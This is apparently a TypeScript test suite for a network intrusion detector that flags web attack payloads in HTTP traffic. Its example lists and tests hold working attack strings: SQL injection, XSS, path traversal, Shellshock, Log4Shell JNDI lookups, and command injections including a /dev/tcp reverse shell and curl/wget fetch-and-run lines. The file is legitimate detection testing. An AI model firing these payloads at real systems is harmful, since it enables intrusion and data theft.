import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import type { Alert } from '../../../src/model/alert.js';
import { openCaptureFile } from '../../../src/engine/capture/file/open-capture-file.js';
import { decodeFrame, DecodeResult } from '../../../src/engine/decode/decode-frame.js';
import { MalformedCounters } from '../../../src/engine/decode/malformed.js';
import { Packet, TcpFlag } from '../../../src/engine/decode/packet.js';
import type { DetectorContext } from '../../../src/engine/detectors/detector.js';
import { PayloadSignatureDetector, type PayloadSignatureConfig } from '../../../src/engine/detectors/payload-signature-detector.js';
import { normalise } from '../../../src/engine/detectors/signatures/normalize.js';
import { BUILTIN_SIGNATURES, compileSignatures, PAYLOAD_ATTACK_TYPES, type PayloadAttackType } from '../../../src/engine/detectors/signatures/patterns.js';
import { hasNestedQuantifier } from '../../../src/engine/detectors/signatures/regex-safety.js';
import { CidrSet } from '../../../src/net/cidr-set.js';
import { StreamRig } from '../../support/tcp-conversation.js';
import { FIXTURES } from '../../support/run-cli.js';

const ATTACKER = '10.77.0.1';
const VICTIM = '10.77.0.2';

function harness(config: PayloadSignatureConfig = {}, homeNet: CidrSet | null = null) {
  const raised: Alert[] = [];
  const changed: Alert[] = [];
  const ctx: DetectorContext = {
    interfaceName: 'test0',
    platformInfo: 'Linux test',
    homeNet,
    raise: (a) => raised.push(a),
    changed: (a) => changed.push(a),
  };
  const det = new PayloadSignatureDetector(config, ctx);
  const rig = new StreamRig([det], {}, [det], 1024);
  let port = 40000;
  let next = rig.ts;
  /** One connection a second after the last: handshake (4 packets 100 µs apart), then the payload as the first data segment. */
  const send = (payload: string | Buffer, opts: { src?: string; dstPort?: number } = {}) => {
    next += 1_000_000;
    rig.ts = next - 400;
    rig.connection(opts.src ?? ATTACKER, VICTIM, port++, opts.dstPort ?? 80).open().send(payload);
  };
  const get = (target: string, headers: Record<string, string> = {}, opts: { src?: string; dstPort?: number } = {}) => {
    const lines = [`GET ${target} HTTP/1.1`, `Host: ${VICTIM}`];
    if (!('User-Agent' in headers)) lines.push('User-Agent: curl/7.88.1');
    for (const [k, v] of Object.entries(headers)) lines.push(`${k}: ${v}`);
    send(`${lines.join('\r\n')}\r\n\r\n`, opts);
  };
  return { det, rig, raised, changed, send, get, types: () => raised.map((a) => a.attack_type).sort() };
}

/** Types a single request raises on a fresh detector. */
function typesOf(target: string, headers: Record<string, string> = {}): string[] {
  const h = harness();
  h.get(target, headers);
  return h.types();
}

const EXAMPLES: Record<PayloadAttackType, { target: string; headers?: Record<string, string> }[]> = {
  SQL_INJECTION: [
    { target: "/?id=1' OR '1'='1" },
    { target: '/?id=1%27%20OR%20%271%27=%271' },
    { target: '/?id=1%2527%2520or%2520%25271%2527%253D%25271' }, // double-encoded
    { target: '/?id=1+UNION+ALL+SELECT+null,version()--' },
    { target: '/?id=1/**/UnIoN/**/SeLeCt/**/1,2' },
    { target: '/?id=1)%20AND%20SLEEP(5)' },
    { target: '/?id=BENCHMARK(5000000,MD5(1))' },
    { target: "/login?user=admin'--&pw=x" },
    { target: '/?q=select+table_name+from+information_schema.tables' },
    { target: '/item?id=10%20or%201=1' },
  ],
  XSS: [
    { target: '/?q=<script>alert(1)</script>' },
    { target: '/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
    { target: '/?q=%3CSCRIPT%20src=//x%3E' },
    { target: '/?q=&lt;script&gt;alert(1)' },
    { target: '/?u=javascript:alert(document.cookie)' },
    { target: '/?q=<img src=x onerror=alert(1)>' },
    { target: '/?q=%3Cbody%20onload%3Dalert(1)%3E' },
    { target: '/?q=<svg/onload=alert(1)>' },
  ],
  PATH_TRAVERSAL: [
    { target: '/../../etc/passwd' },
    { target: '/static/..%2f..%2f..%2fetc/shadow' },
    { target: '/%2e%2e%2f%2e%2e%2fapp/config' },
    { target: '/%252e%252e%252fsecret' },
    { target: '/download?file=..\\..\\windows\\win.ini' },
    { target: '/%c0%ae%c0%ae/%c0%ae%c0%ae/x' },
    { target: '/view?page=/proc/self/environ' },
  ],
  COMMAND_INJECTION: [
    { target: '/?cmd=;cat%20/etc/hosts' },
    { target: '/ping?host=127.0.0.1%3Bwhoami' },
    { target: '/ping?host=127.0.0.1|id' },
    { target: '/ping?host=x%26%26wget%20http://e/x' },
    { target: '/?a=`id`' },
    { target: '/?a=$(curl%20http://e/s.sh)' },
    { target: '/?a=1;/bin/sh%20-c%20x' },
    { target: '/?a=bash%20-i%20>%26%20/dev/tcp/10.0.0.1/4444' },
  ],
  SHELLSHOCK: [
    { target: '/cgi-bin/status', headers: { 'User-Agent': '() { :; }; /bin/bash -c id' } },
    { target: '/cgi-bin/status', headers: { Referer: '(){ :;}; echo; /bin/id' } },
    { target: '/cgi-bin/x', headers: { Cookie: '()  {  _; } >_[$($())] { id; }' } },
  ],
  LOG4SHELL: [
    { target: '/', headers: { 'X-Api-Version': '${jndi:ldap://x/a}' } },
    { target: '/', headers: { 'User-Agent': '${${lower:j}ndi:${lower:l}dap://x/a}' } },
    { target: '/', headers: { 'X-Forwarded-For': '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}' } },
    { target: '/', headers: { Referer: '${${env:NOPE:-j}ndi${upper:\u0131}:dns://x}'.replace('\u0131', ':') } },
    { target: '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D' },
    { target: '/', headers: { 'X-Api-Version': '${JNDI:LDAP://x/a}' } },
  ],
  SCANNER_USER_AGENT: [
    { target: '/', headers: { 'User-Agent': 'sqlmap/1.7 (https://sqlmap.org)' } },
    { target: '/', headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)' } },
    { target: '/', headers: { 'User-Agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' } },
    { target: '/', headers: { 'User-Agent': 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' } },
    { target: '/', headers: { 'User-Agent': 'Mozilla/5.0 zgrab/0.x' } },
    { target: '/', headers: { 'User-Agent': 'gobuster/3.6' } },
    { target: '/', headers: { 'User-Agent': 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)' } },
    { target: '/', headers: { 'User-Agent': 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' } },
    { target: '/', headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' } },
    { target: '/', headers: { 'User-Agent': 'Mozilla/5.0 (compatible; acunetix)' } },
  ],
};

const BENIGN: { target: string; headers?: Record<string, string> }[] = [
  { target: '/' },
  { target: '/index.html' },
  { target: '/docs/readme.md' },
  { target: '/?name=O%27Brien' },
  { target: "/search?q=O'Brien+and+O'Neil" },
  { target: "/search?q=it's+or+that's" },
  { target: '/?q=search+term&page=2&sort=desc' },
  { target: '/?onload=1&script=yes' },
  { target: '/files/report..final.pdf' },
  { target: '/a/b/../c.html'.replace('../', '') },
  { target: '/api/v1/users?id=42;format=json' },
  { target: '/?ids=1;2;3&identity=x' },
  { target: '/?cat=shoes&id=7' },
  { target: '/?x=a|b' },
  { target: '/?price=10%25&currency=EUR' },
  { target: '/wiki/Union_select_committee' },
  { target: '/', headers: { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' } },
  { target: '/', headers: { Accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8', Cookie: 'session=abc; theme=dark' } },
  { target: '/', headers: { Referer: 'http://10.77.0.2/docs/../index.html' } },
  { target: '/api', headers: { 'Content-Type': 'application/json', 'X-Template': '${user.name}' } },
];

describe('PayloadSignatureDetector: signatures', () => {
  for (const type of PAYLOAD_ATTACK_TYPES) {
    test(`${type}: every example (plain, encoded, obfuscated) matches`, () => {
      for (const ex of EXAMPLES[type]) {
        assert.ok(typesOf(ex.target, ex.headers).includes(type), `${type} not found in ${JSON.stringify(ex)}`);
      }
    });
  }

  test('benign requests raise nothing', () => {
    for (const ex of BENIGN) assert.deepEqual(typesOf(ex.target, ex.headers), [], JSON.stringify(ex));
  });

  test('normalisation: URL-decoding rounds, + in the query, entities, case, log4j lookups, whitespace', () => {
    assert.equal(normalise('/a%252e%252e%252fb', true), '/a../b');
    assert.equal(normalise('/a+b?q=x+y', true), '/a+b?q=x y');
    assert.equal(normalise('&lt;ScRiPt&#x3e;&#39;', false), "<script>'");
    assert.equal(normalise('${${lower:J}${::-n}${env:X:-d}${upper:i}:x}', false), '${jndi:x}');
    assert.equal(normalise('a \t\r\n\0 b', false), 'a b');
    assert.equal(normalise('union/**/select', false), 'union select');
  });

  test('non-HTTP clear-text payloads to common ports: LOG4SHELL, SHELLSHOCK, COMMAND_INJECTION in the first bytes', () => {
    const h = harness();
    h.send('USER ${jndi:ldap://x/a}\r\n', { dstPort: 21 });
    h.send('() { :; }\r\n', { dstPort: 25 });
    h.send('EHLO x;wget http://e/x\r\n', { dstPort: 25, src: '10.77.0.9' });
    h.send('${jndi:ldap://x/a}', { dstPort: 4444 }); // not a clear-text service port: ignored
    assert.deepEqual(h.types(), ['COMMAND_INJECTION', 'LOG4SHELL', 'SHELLSHOCK']);
    const ftp = h.raised.find((a) => a.attack_type === 'LOG4SHELL')!;
    assert.equal(ftp.attack_details.service, 'FTP');
    assert.equal(ftp.attack_details.sample, 'USER ${jndi:ldap://x/a}');
  });

  test('home net: requests to other addresses are not ours', () => {
    const h = harness({}, CidrSet.parse(['192.0.2.0/24']));
    h.get('/?id=1%27%20OR%20%271%27=%271');
    assert.equal(h.raised.length, 0);
  });
});

describe('PayloadSignatureDetector: alerts', () => {
  test('one alert per attacker and type, updated (not repeated) with the request count', () => {
    const h = harness();
    h.get("/?id=1' or '1'='1");
    h.get('/?id=1 union select 1');
    h.get('/?id=sleep(3)');
    assert.equal(h.raised.length, 1);
    assert.equal(h.changed.length, 2);
    const a = h.raised[0]!;
    assert.equal(h.changed[1], a);
    assert.equal(a.attack_type, 'SQL_INJECTION');
    assert.equal(a.severity, 'high');
    assert.equal(a.attacker_ip, ATTACKER);
    assert.equal(a.target_ip, VICTIM);
    assert.equal(a.target_port, 80);
    assert.equal(a.protocol, 'tcp');
    assert.equal(a.packet_count, 3);
    assert.equal(a.duration, 2);
    assert.equal(a.attack_details.service, 'HTTP');
    assert.equal(a.attack_details.matched, 'sqli-time-delay');
    assert.equal(a.attack_details.sample, 'GET /?id=sleep(3) HTTP/1.1');
    assert.equal(a.attack_details.requests, 3);
    assert.equal(a.attack_details.interface, 'test0');
    // Another attacker, and another type from the same attacker, are separate alerts.
    h.get("/?id=1' or '1'='1", {}, { src: '10.77.0.5' });
    h.get('/?q=<script>x</script>');
    assert.deepEqual(
      h.raised.map((r) => `${r.attacker_ip} ${r.attack_type}`),
      [`${ATTACKER} SQL_INJECTION`, '10.77.0.5 SQL_INJECTION', `${ATTACKER} XSS`],
    );
  });

  test('scanner User-Agent is medium; a request can carry several types', () => {
    const h = harness();
    h.get('/../../etc/passwd?x=;id', { 'User-Agent': 'Nikto/2.5' });
    assert.deepEqual(h.types(), ['COMMAND_INJECTION', 'PATH_TRAVERSAL', 'SCANNER_USER_AGENT']);
    assert.equal(h.raised.find((a) => a.attack_type === 'SCANNER_USER_AGENT')!.severity, 'medium');
  });

  test('the sample is the raw request line cut to 200 characters', () => {
    const h = harness();
    h.get(`/?q=<script>${'A'.repeat(400)}`);
    const sample = h.raised[0]!.attack_details.sample as string;
    assert.equal(sample.length, 200);
    assert.ok(sample.startsWith('GET /?q=<script>AAA'));
  });

  test('state is bounded: the least recently active (attacker, type) is evicted', () => {
    const h = harness({ maxEntries: 3 });
    for (let i = 1; i <= 5; i++) h.get('/?q=<script>', {}, { src: `10.0.0.${i}` });
    assert.equal(h.det.trackedEntries, 3);
    assert.equal(h.det.evicted, 2);
    h.get('/?q=<script>', {}, { src: '10.0.0.1' }); // forgotten: a new alert
    assert.equal(h.raised.length, 6);
    h.get('/?q=<script>', {}, { src: '10.0.0.5' }); // still tracked: an update
    assert.equal(h.raised.length, 6);
  });
});

describe('PayloadSignatureDetector: configuration and pattern safety', () => {
  test('extra patterns from the config are compiled once and used', () => {
    const h = harness({ extraPatterns: { SCANNER_USER_AGENT: ['evilbot/\\d'], XSS: ['<marquee'] } });
    h.get('/', { 'User-Agent': 'EvilBot/2.0' });
    h.get('/?q=%3CMARQUEE%3E');
    assert.deepEqual(h.types(), ['SCANNER_USER_AGENT', 'XSS']);
    assert.equal(h.raised[0]!.attack_details.matched, 'config:evilbot/\\d');
  });

  test('an invalid extra pattern throws a RangeError naming it', () => {
    assert.throws(() => harness({ extraPatterns: { SQL_INJECTION: ['ok', 'unclosed('] } }), (err: unknown) => {
      assert.ok(err instanceof RangeError);
      assert.match(err.message, /SQL_INJECTION\[1\] "unclosed\("/);
      return true;
    });
    assert.throws(() => harness({ extraPatterns: { XSS: ['(a)\\1'] } }), /XSS\[0\] .*not a pattern the linear-time engine \(RE2\) accepts: invalid escape/);
    assert.throws(() => harness({ extraPatterns: { PORT_SCAN: ['x'] } }), /unknown attack type "PORT_SCAN"/);
  });

  test('the nested-quantifier check', () => {
    for (const bad of ['(a+)+', '(?:a*b)*', '(x{1,3}){2,}', '((ab)+c)+', '(\\w+\\s?)*']) assert.ok(hasNestedQuantifier(bad), bad);
    for (const ok of ['a+b*', '(?:ab)+', '(?:a{0,4})?', '[(+*)]+', '\\(a+\\)+', '(?:or|and) ?x{1,3}']) assert.ok(!hasNestedQuantifier(ok), ok);
  });

  test('no built-in pattern has a nested quantifier, and 50 KB near-misses run through every one', () => {
    for (const type of PAYLOAD_ATTACK_TYPES) {
      for (const s of BUILTIN_SIGNATURES[type]) assert.ok(!hasNestedQuantifier(s.source), `${type} ${s.name}: ${s.source}`);
    }
    const sigs = compileSignatures();
    const probes = ["'".repeat(50_000), 'a'.repeat(50_000), "' or ".repeat(10_000), '${'.repeat(25_000), '../'.repeat(17_000), '%25'.repeat(17_000)];
    for (const probe of probes) {
      const text = normalise(probe, true);
      for (const type of PAYLOAD_ATTACK_TYPES) for (const s of sigs[type]) s.re.test(probe.slice(0, 50_000)) && s.re.test(text);
    }
    // And through the detector as a request target and a header.
    const h = harness();
    h.get(`/?q=${"'".repeat(3000)}`, { 'X-A': '${'.repeat(1500) });
    assert.ok(h.raised.length <= 2);
  });
});

describe('PayloadSignatureDetector: the recorded http-attacks.pcap fixture', () => {
  test('decodeFrame + FlowTable.update + StreamTable + detector give exactly the manifest alerts', async () => {
    const manifest = JSON.parse(readFileSync(`${FIXTURES}manifest.json`, 'utf8')) as { file: string; expect: { alerts?: { attack_type: string; attacker_ip: string }[] } }[];
    const entry = manifest.find((e) => e.file === 'http-attacks.pcap');
    assert.ok(entry?.expect.alerts, 'manifest entry with expect.alerts');
    const raised: Alert[] = [];
    let updates = 0;
    const ctx: DetectorContext = { interfaceName: 'replay', platformInfo: 'x', homeNet: null, raise: (a) => raised.push(a), changed: () => updates++ };
    const det = new PayloadSignatureDetector({}, ctx);
    const rig = new StreamRig([det], {}, [det]);
    const pkt = new Packet();
    const malformed = new MalformedCounters();
    const source = await openCaptureFile(`${FIXTURES}http-attacks.pcap`);
    const end = await source.start((buf, offset, capLen, wireLen, tsMicros, linkType) => {
      if (decodeFrame(pkt, buf, offset, capLen, wireLen, tsMicros, linkType, malformed) !== DecodeResult.IP) return;
      rig.feed(pkt);
      rig.streams.tick(tsMicros);
      det.onTick(tsMicros);
    });
    assert.equal(end.reason, 'eof');
    const got = raised.map((a) => `${a.attack_type}@${a.attacker_ip}`).sort();
    const want = entry.expect.alerts.map((a) => `${a.attack_type}@${a.attacker_ip}`).sort();
    assert.deepEqual(got, want);
    assert.equal(updates, 0, 'one request per type: nothing to update');
    for (const a of raised) {
      assert.equal(a.target_ip, '10.77.0.2');
      assert.equal(a.target_port, 80);
      assert.equal(a.packet_count, 1);
    }
    const byType = Object.fromEntries(raised.map((a) => [a.attack_type, a.attack_details.sample]));
    assert.equal(byType.PATH_TRAVERSAL, 'GET /../../etc/passwd HTTP/1.1');
    assert.equal(byType.SQL_INJECTION, 'GET /?id=1%27%20OR%20%271%27=%271 HTTP/1.1');
  });
});

describe('PayloadSignatureDetector: every request of a stream, by named part', () => {
  const HEAD = `Host: ${VICTIM}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n`;
  const get = (target: string, extra = '') => `GET ${target} HTTP/1.1\r\n${HEAD}${extra}\r\n`;
  const post = (target: string, type: string, body: string) => `POST ${target} HTTP/1.1\r\n${HEAD}Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body, 'latin1')}\r\n\r\n${body}`;

  function conn() {
    const h = harness();
    const c = h.rig.connection(ATTACKER, VICTIM, 45000, 8080).open();
    return { h, c };
  }

  test('keep-alive: the fifth request on one connection is inspected, with its part and match', () => {
    const { h, c } = conn();
    for (let i = 0; i < 4; i++) c.send(get(`/page/${i}.html`)).reply('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok');
    assert.equal(h.raised.length, 0);
    c.send(get('/item?id=-1%20/*!50000UNION*/%20/*!50000SELECT*/%201,user(),3--'));
    assert.deepEqual(h.types(), ['SQL_INJECTION']);
    const d = h.raised[0]!.attack_details;
    assert.equal(d.matched_part, 'request target');
    assert.equal(d.sample, 'GET /item?id=-1%20/*!50000UNION*/%20/*!50000SELECT*/%201,user(),3-- HTTP/1.1');
    assert.match(String(d.matched_normalized), /union\s*select/);
  });

  test('pipelined requests in one segment: each one is inspected', () => {
    const { h, c } = conn();
    c.send(get('/') + get('/?q=<script>alert(1)</script>') + get('/a', `Referer: http://x/?id=1' OR '1'='1\r\n`) + get('/b'));
    assert.deepEqual(h.types(), ['SQL_INJECTION', 'XSS']);
    const sqli = h.raised.find((a) => a.attack_type === 'SQL_INJECTION')!;
    assert.equal(sqli.attack_details.matched_part, 'header Referer');
    assert.equal(sqli.attack_details.matched_text, "http://x/?id=1' OR '1'='1");
  });

  test('a request split in 3-byte segments through the attack string still matches', () => {
    const { h, c } = conn();
    c.sendSplit(get('/cgi-bin/x', 'X-Api-Version: ${jndi:ldap://10.77.0.1/a}\r\n'), 3);
    assert.deepEqual(h.types(), ['LOG4SHELL']);
    assert.equal(h.raised[0]!.attack_details.matched_part, 'header X-Api-Version');
  });

  test('segments out of order: the request is inspected once the hole is filled', () => {
    const { h, c } = conn();
    const req = get('/?id=1%20UNION%20SELECT%20password%20FROM%20users');
    c.send(req.slice(20), 20); // ahead: held
    assert.equal(h.raised.length, 0);
    c.send(req.slice(0, 20), 0);
    assert.deepEqual(h.types(), ['SQL_INJECTION']);
  });

  test('POST bodies: form, JSON and multipart fields', () => {
    const { h, c } = conn();
    c.send(post('/comment', 'application/x-www-form-urlencoded', 'name=alice&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E'));
    c.send(post('/api', 'application/json', '{"f":"name\\u0027 UNION SELECT password FROM users--"}'));
    const boundary = '----x9';
    const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="host"\r\n\r\n127.0.0.1; cat /etc/shadow\r\n--${boundary}--\r\n`;
    c.send(post('/upload', `multipart/form-data; boundary=${boundary}`, multipart));
    // /etc/shadow in the multipart field is a sensitive path as well as a command's argument.
    assert.deepEqual(h.types(), ['COMMAND_INJECTION', 'PATH_TRAVERSAL', 'SQL_INJECTION', 'XSS']);
    for (const a of h.raised) assert.equal(a.attack_details.matched_part, 'body', a.attack_type);
  });

  test('SQL injection and XSS in Cookie and X-Forwarded-For; benign values of the same headers raise nothing', () => {
    const { h, c } = conn();
    c.send(get('/docs/', "Referer: http://10.77.0.2/docs/\r\nCookie: session=6f1c2a9e0b7d4c3f; theme=dark\r\nX-Forwarded-For: 192.0.2.10\r\n"));
    assert.equal(h.raised.length, 0);
    c.send(get('/', 'Cookie: lang=<script>alert(1)</script>\r\n'));
    c.send(get('/', "X-Forwarded-For: 10.0.0.1' OR '1'='1\r\n"));
    assert.deepEqual(h.types(), ['SQL_INJECTION', 'XSS']);
    assert.equal(h.raised.find((a) => a.attack_type === 'XSS')!.attack_details.matched_part, 'header Cookie');
    assert.equal(h.raised.find((a) => a.attack_type === 'SQL_INJECTION')!.attack_details.matched_part, 'header X-Forwarded-For');
  });

  test('values searched once per session: a clean value is remembered, an attack is found every time', () => {
    const { h, c } = conn();
    for (let i = 0; i < 30; i++) c.send(get(`/p${i}`, 'Cookie: session=6f1c2a9e; theme=dark\r\n'));
    assert.ok(h.det.clean.hits >= 29 * 2, `${h.det.clean.hits} remembered`);
    c.send(get('/', 'X-Api-Version: ${jndi:ldap://x/a}\r\n')).send(get('/', 'X-Api-Version: ${jndi:ldap://x/a}\r\n'));
    assert.deepEqual(h.types(), ['LOG4SHELL']);
    assert.equal(h.raised[0]!.attack_details.requests, 2);
    // A value clean for the types of one header is still searched for the types of another.
    c.send(get('/', "X-Note: 1' OR '1'='1\r\nReferer: 1' OR '1'='1\r\n"));
    assert.deepEqual(h.types(), ['LOG4SHELL', 'SQL_INJECTION']);
  });

  test("hydra's own User-Agent is a scanner's", () => {
    const { h, c } = conn();
    c.send(`GET /protected/ HTTP/1.1\r\nHost: ${VICTIM}\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\nAuthorization: Basic YWRtaW46Z3Vlc3M=\r\n\r\n`);
    assert.deepEqual(h.types(), ['SCANNER_USER_AGENT']);
  });
});
